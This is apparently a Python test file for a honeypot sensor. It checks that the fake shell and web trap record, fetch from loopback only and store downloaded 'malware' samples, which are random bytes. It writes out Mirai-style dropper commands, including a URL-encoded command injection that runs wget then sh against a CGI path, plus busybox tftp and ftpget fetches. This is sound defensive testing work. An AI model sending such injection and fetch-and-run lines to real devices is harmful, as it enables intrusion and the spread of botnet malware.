"""Downloads in the fake host: wget/curl fetch for real when the config allows it (here: loopback only),
the file is stored by SHA-256 under artifacts/ and reported; the default config contacts nothing."""
import hashlib
import logging
import http.server
import os
import subprocess
import shutil
import socket
import threading
import time

import pytest

from conftest import Sensor, free_port_base, wait_for

BASE = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    tcp_ports: [2222]
    hostname: web01
    auth_rules: ["root:123456", "*:!*"]
    accept_after: 0
"""
ALLOW_LOOPBACK = BASE + """    downloads:
      enabled: true
      allow_private: true
      max_bytes: 1MiB
"""


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """A loopback HTTP server with a fake ELF 'malware' sample; records every request path."""
    root = tmp_path_factory.mktemp("www")
    sample = b"\x7fELF\x01\x01\x01" + os.urandom(20_000)
    (root / "bins").mkdir()
    (root / "bins" / "mirai.x86").write_bytes(sample)
    seen = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a, **kw):
            super().__init__(*a, directory=str(root), **kw)

        def do_GET(self):
            seen.append((self.path, self.headers.get("User-Agent")))
            return super().do_GET()

        def log_message(self, *args):
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1], sample, seen
    httpd.shutdown()


def ssh(port, command):
    return subprocess.run(["sshpass", "-p", "123456", "ssh", "-p", str(port), "-o", "StrictHostKeyChecking=no",
                           "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no",
                           "root@127.0.0.1", command], capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL)


def test_wget_and_curl_fetch_store_and_report(tmp_path, served):
    port, sample, seen = served
    sha = hashlib.sha256(sample).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        url = f"http://127.0.0.1:{port}/bins/mirai.x86"
        r = ssh(2222 + s.offset, f"cd /tmp; wget {url}; chmod +x mirai.x86; ls -l mirai.x86; sha256sum mirai.x86")
        assert f"{sha}  mirai.x86" in r.stdout, r.stdout + r.stderr
        assert f" {len(sample)} " in r.stdout, "the file has the served size in the session filesystem"
        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url") == url], 10)
        assert e and e[0]["sha256"] == sha and e[0]["size"] == len(sample), s.events(event="file.download")
        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
        assert wait_for(lambda: os.path.exists(stored), 5), "sample not stored by sha256"
        with open(stored, "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == sha
        assert os.stat(stored).st_mode & 0o111 == 0, "a captured sample is never executable"
        r = ssh(2222 + s.offset, f"curl -s -o /tmp/c {url}; md5sum /tmp/c")
        assert hashlib.md5(sample).hexdigest() in r.stdout, r.stdout + r.stderr
        assert ("/bins/mirai.x86", "Wget/1.21.3") in seen and ("/bins/mirai.x86", "curl/7.88.1") in seen
    finally:
        s.stop()


def test_default_config_fetches_nothing(tmp_path, served):
    port, _, seen = served
    before = len(seen)
    s = Sensor(tmp_path, BASE, free_port_base(), worker="ssh").start()
    try:
        r = ssh(2222 + s.offset, f"wget http://127.0.0.1:{port}/bins/mirai.x86")
        assert r.returncode != 0 and "failed" in r.stderr, r.stderr
        assert wait_for(lambda: s.events(event="command.input"), 10)
        assert s.events(event="file.download") == []
        failed = wait_for(lambda: s.events(event="file.download.failed"), 10)
        assert failed and failed[0]["url"] == f"http://127.0.0.1:{port}/bins/mirai.x86" and failed[0]["message"] == "refused"
        assert len(seen) == before, "downloads are off by default: the server must not be contacted"
    finally:
        s.stop()


@pytest.fixture(scope="module")
def tftpd(tmp_path_factory):
    """tftp-hpa's server on loopback serving one sample."""
    if not os.path.exists("/usr/sbin/in.tftpd") or os.geteuid() != 0:
        pytest.skip("needs root and Debian's tftpd-hpa")
    root = tmp_path_factory.mktemp("tftproot")
    os.chmod(root, 0o755)
    sample = b"\x7fELF\x01\x01\x01" + os.urandom(3000)  # several 512-byte blocks
    (root / "mirai.arm7").write_bytes(sample)
    os.chmod(root / "mirai.arm7", 0o644)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    proc = subprocess.Popen(["/usr/sbin/in.tftpd", "-L", "-u", "nobody", "-s", str(root), "-a", f"127.0.0.1:{port}"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    yield port, sample
    proc.terminate()
    proc.wait()


def test_tftp_fetch_from_a_real_tftpd(tmp_path, tftpd):
    port, sample = tftpd
    sha = hashlib.sha256(sample).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        # busybox's form, as Mirai loaders use it, then tftp-hpa's.
        r = ssh(2222 + s.offset, f"cd /tmp; tftp -g -r mirai.arm7 127.0.0.1 {port}; sha256sum mirai.arm7; "
                                 f"tftp 127.0.0.1 {port} -c get mirai.arm7 copy; ls -l copy")
        assert f"{sha}  mirai.arm7" in r.stdout, r.stdout + r.stderr
        assert f" {len(sample)} " in r.stdout
        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url", "").startswith("tftp://")], 10)
        assert e and e[0]["sha256"] == sha and e[0]["url"] == f"tftp://127.0.0.1:{port}/mirai.arm7"
    finally:
        s.stop()


WEB = """
honeypots:
  trap:
    enabled: false
  telnet:
    enabled: false
  ssh:
    enabled: false
  web:
    tcp_ports: [8080]
    https_ports: []
"""
WEB_FETCHING = WEB + """    downloads:
      enabled: true
      allow_private: true
      max_bytes: 1MiB
"""


def inject(port, served_port, marker):
    """A Realtek/GPON-style command injection (URL-encoded, as bots send it) naming the loopback dropper."""
    cmd = f"cd /tmp;wget http://127.0.0.1:{served_port}/bins/mirai.x86 -O m;sh m {marker}"
    return subprocess.run(["curl", "-sS", "--max-time", "10", "-A", "Hello, World", "--data-urlencode", f"cmd={cmd}",
                           f"http://127.0.0.1:{port}/cgi-bin/ViewLog.asp"], capture_output=True, timeout=30)


def test_web_attack_url_is_seen_fetched_once_and_stored(tmp_path, served):
    port, sample, seen = served
    sha = hashlib.sha256(sample).hexdigest()
    dropper = f"http://127.0.0.1:{port}/bins/mirai.x86"
    s = Sensor(tmp_path, WEB_FETCHING, free_port_base(), worker="web").start()
    try:
        before = len([p for p, _ in seen if p == "/bins/mirai.x86"])
        assert inject(8080 + s.offset, port, "first").returncode == 0
        urls = wait_for(lambda: [e for e in s.events(event="url.seen") if e.get("url") == dropper], 10)
        assert urls and urls[0]["message"] == "in body" and "cmd_injection" in urls[0]["attack"]["categories"], urls
        got = wait_for(lambda: [e for e in s.events(event="file.download") if e.get("url") == dropper], 15)
        assert got and got[0]["sha256"] == sha and got[0]["size"] == len(sample) and got[0]["honeypot"] == "web", got
        assert got[0]["session"] == urls[0]["session"] and got[0]["filename"] == "mirai.x86"
        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
        with open(stored, "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == sha
        req = [e for e in s.events(event="http.request") if e["session"] == urls[0]["session"]]
        assert req and req[0]["http"]["client"] == "attacker" and len(req[0]["http"]["client_session"]) == 16
        # The same dropper sprayed again: recorded again, fetched once.
        assert inject(8080 + s.offset, port, "second").returncode == 0
        assert wait_for(lambda: len([e for e in s.events(event="url.seen") if e.get("url") == dropper]) == 2, 10)
        time.sleep(0.5)
        assert len([p for p, _ in seen if p == "/bins/mirai.x86"]) == before + 1
        assert len(s.events(event="file.download")) == 1
    finally:
        s.stop()


def test_web_default_config_records_the_url_but_contacts_nothing(tmp_path, served):
    port, _, seen = served
    before = len(seen)
    s = Sensor(tmp_path, WEB, free_port_base(), worker="web").start()
    try:
        assert inject(8080 + s.offset, port, "off").returncode == 0
        assert wait_for(lambda: s.events(event="url.seen"), 10)
        time.sleep(0.5)
        assert s.events(event="file.download") == [] and s.events(event="file.download.failed") == []
        assert len(seen) == before, "web downloads are off by default: the server must not be contacted"
    finally:
        s.stop()


def start_ftpd(root, epsv=True, masquerade=None):
    """pyftpdlib on loopback: anonymous read access to `root`, user bot/s3cret to root/home. Records
    logins and RETRs. `epsv=False` makes the client fall back to PASV; `masquerade` makes PASV name
    another host (what a hostile server would do to aim the data connection elsewhere)."""
    from pyftpdlib.authorizers import DummyAuthorizer
    from pyftpdlib.handlers import FTPHandler
    from pyftpdlib.ioloop import IOLoop
    from pyftpdlib.servers import ThreadedFTPServer
    seen = []
    auth = DummyAuthorizer()
    auth.add_anonymous(str(root))
    auth.add_user("bot", "s3cret", str(root / "home"), perm="elr")

    class Handler(FTPHandler):
        authorizer = auth
        masquerade_address = masquerade
        proto_cmds = {k: v for k, v in FTPHandler.proto_cmds.items() if epsv or k != "EPSV"}

        def on_login(self, username):
            seen.append(("login", username))

        def ftp_RETR(self, file):
            seen.append(("retr", file))
            return super().ftp_RETR(file)

    logging.getLogger("pyftpdlib").setLevel(logging.WARNING)
    # Its own IOLoop: pyftpdlib's default one is shared, and two servers (the PASV test) would share it.
    server = ThreadedFTPServer(("127.0.0.1", 0), Handler, ioloop=IOLoop())
    port = server.address[1]
    threading.Thread(target=server.serve_forever, kwargs={"handle_exit": False}, daemon=True).start()
    return server, port, seen


def stop_ftpd(*servers):
    """close_all from the test thread races serve_forever's poll in its own thread (EBADF): harmless at teardown."""
    for server in servers:
        try:
            server.close_all()
        except OSError:
            pass


@pytest.fixture()
def ftp_root(tmp_path_factory):
    pytest.importorskip("pyftpdlib")
    root = tmp_path_factory.mktemp("ftproot")
    (root / "bins").mkdir()
    (root / "home").mkdir()
    sample = b"\x7fELF\x01\x02\x01" + os.urandom(70_000)  # several data-connection reads
    (root / "bins" / "mirai.mips").write_bytes(sample)
    (root / "bins" / "big.bin").write_bytes(os.urandom(1_500_000))  # over the config's 1 MiB cap
    private = b"#!/bin/sh\necho private\n" + os.urandom(500)
    (root / "home" / "private.bin").write_bytes(private)
    return root, sample, private


def test_ftp_fetch_from_a_real_ftp_server(tmp_path, ftp_root):
    root, sample, private = ftp_root
    server, port, seen = start_ftpd(root)
    sha, private_sha = hashlib.sha256(sample).hexdigest(), hashlib.sha256(private).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        r = ssh(2222 + s.offset, f"cd /tmp; ftpget -P {port} 127.0.0.1 a.bin bins/mirai.mips; sha256sum a.bin; "
                                 f"busybox ftpget -u bot -p s3cret -P {port} 127.0.0.1 p.bin private.bin; sha256sum p.bin; "
                                 f"wget -q ftp://127.0.0.1:{port}/bins/mirai.mips -O w.bin; sha1sum w.bin; "
                                 f"curl -s -o c.bin ftp://127.0.0.1:{port}/bins/mirai.mips; md5sum c.bin")
        assert f"{sha}  a.bin" in r.stdout, r.stdout + r.stderr
        assert f"{private_sha}  p.bin" in r.stdout, r.stdout + r.stderr
        assert f"{hashlib.sha1(sample).hexdigest()}  w.bin" in r.stdout, r.stdout + r.stderr
        assert f"{hashlib.md5(sample).hexdigest()}  c.bin" in r.stdout, r.stdout + r.stderr
        assert ("login", "anonymous") in seen and ("login", "bot") in seen, seen
        r = ssh(2222 + s.offset, f"cd /tmp; ftpget -P {port} 127.0.0.1 big.bin bins/big.bin; wc -c big.bin")
        assert r.stdout == "1048576 big.bin\n", r.stdout + r.stderr
        def ftp_downloads():
            e = [x for x in s.events(event="file.download") if x.get("url", "").startswith("ftp://")]
            return e if len(e) >= 5 else None
        events = wait_for(ftp_downloads, 10)
        assert events and {e["sha256"] for e in events if e["size"] != 1048576} == {sha, private_sha}, events
        assert f"ftp://bot:s3cret@127.0.0.1:{port}/private.bin" in [e["url"] for e in events]
        for digest in (sha, private_sha):
            stored = os.path.join(s.data, "artifacts", "sha256", digest[:2], digest)
            with open(stored, "rb") as f:
                assert hashlib.sha256(f.read()).hexdigest() == digest
    finally:
        s.stop()
        stop_ftpd(server)


def test_ftp_pasv_fallback_and_foreign_pasv_address_refused(tmp_path, ftp_root):
    root, sample, _ = ftp_root
    plain, plain_port, plain_seen = start_ftpd(root, epsv=False)
    hostile, hostile_port, hostile_seen = start_ftpd(root, epsv=False, masquerade="10.255.0.9")
    sha = hashlib.sha256(sample).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        r = ssh(2222 + s.offset, f"cd /tmp; ftpget -P {plain_port} 127.0.0.1 ok.bin bins/mirai.mips; sha256sum ok.bin; "
                                 f"ftpget -P {hostile_port} 127.0.0.1 bad.bin bins/mirai.mips; echo status=$?")
        assert f"{sha}  ok.bin" in r.stdout, r.stdout + r.stderr
        assert "status=1" in r.stdout and "ftpget: can't connect to remote host (127.0.0.1)" in r.stderr, r.stdout + r.stderr
        assert any(k == "retr" and f.endswith("mirai.mips") for k, f in plain_seen), plain_seen
        assert not [x for x in hostile_seen if x[0] == "retr"], "a PASV reply naming another host must not be followed"
        failed = wait_for(lambda: s.events(event="file.download.failed"), 10)
        assert failed and failed[0]["url"] == f"ftp://127.0.0.1:{hostile_port}/bins/mirai.mips", failed
    finally:
        s.stop()
        stop_ftpd(plain, hostile)


@pytest.fixture()
def https_served(tmp_path_factory):
    """python http.server inside TLS on loopback, with a self-signed certificate made by openssl req."""
    import ssl
    if not shutil.which("openssl"):
        pytest.skip("needs openssl")
    root = tmp_path_factory.mktemp("https")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=evil.example",
                    "-keyout", str(root / "key.pem"), "-out", str(root / "cert.pem")], check=True, capture_output=True)
    sample = b"\x7fELF\x02\x01\x01" + os.urandom(30_000)
    (root / "x86_64").write_bytes(sample)
    seen = []

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a, **kw):
            super().__init__(*a, directory=str(root), **kw)

        def do_GET(self):
            seen.append((self.path, self.headers.get("User-Agent"), self.headers.get("Host")))
            return super().do_GET()

        def log_message(self, *args):
            pass

    snis = []
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(str(root / "cert.pem"), str(root / "key.pem"))
    context.sni_callback = lambda sock, name, ctx: snis.append(name)
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.socket = context.wrap_socket(httpd.socket, server_side=True)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield httpd.server_address[1], sample, seen, snis
    httpd.shutdown()


def test_https_fetch_with_self_signed_certificate(tmp_path, https_served):
    port, sample, seen, snis = https_served
    sha = hashlib.sha256(sample).hexdigest()
    s = Sensor(tmp_path, ALLOW_LOOPBACK, free_port_base(), worker="ssh").start()
    try:
        url = f"https://127.0.0.1:{port}/x86_64"
        r = ssh(2222 + s.offset, f"cd /tmp; wget -q --no-check-certificate {url}; sha256sum x86_64; "
                                 f"curl -k -s -o c {url}; sha512sum c")
        assert f"{sha}  x86_64" in r.stdout, r.stdout + r.stderr
        assert f"{hashlib.sha512(sample).hexdigest()}  c" in r.stdout, r.stdout + r.stderr
        assert ("/x86_64", "Wget/1.21.3", f"127.0.0.1:{port}") in seen and ("/x86_64", "curl/7.88.1", f"127.0.0.1:{port}") in seen, seen
        assert all(n is None for n in snis), "an address is never sent as SNI"
        e = wait_for(lambda: [x for x in s.events(event="file.download") if x.get("url") == url], 10)
        assert e and e[0]["sha256"] == sha and e[0]["size"] == len(sample), e
        stored = os.path.join(s.data, "artifacts", "sha256", sha[:2], sha)
        with open(stored, "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == sha
    finally:
        s.stop()
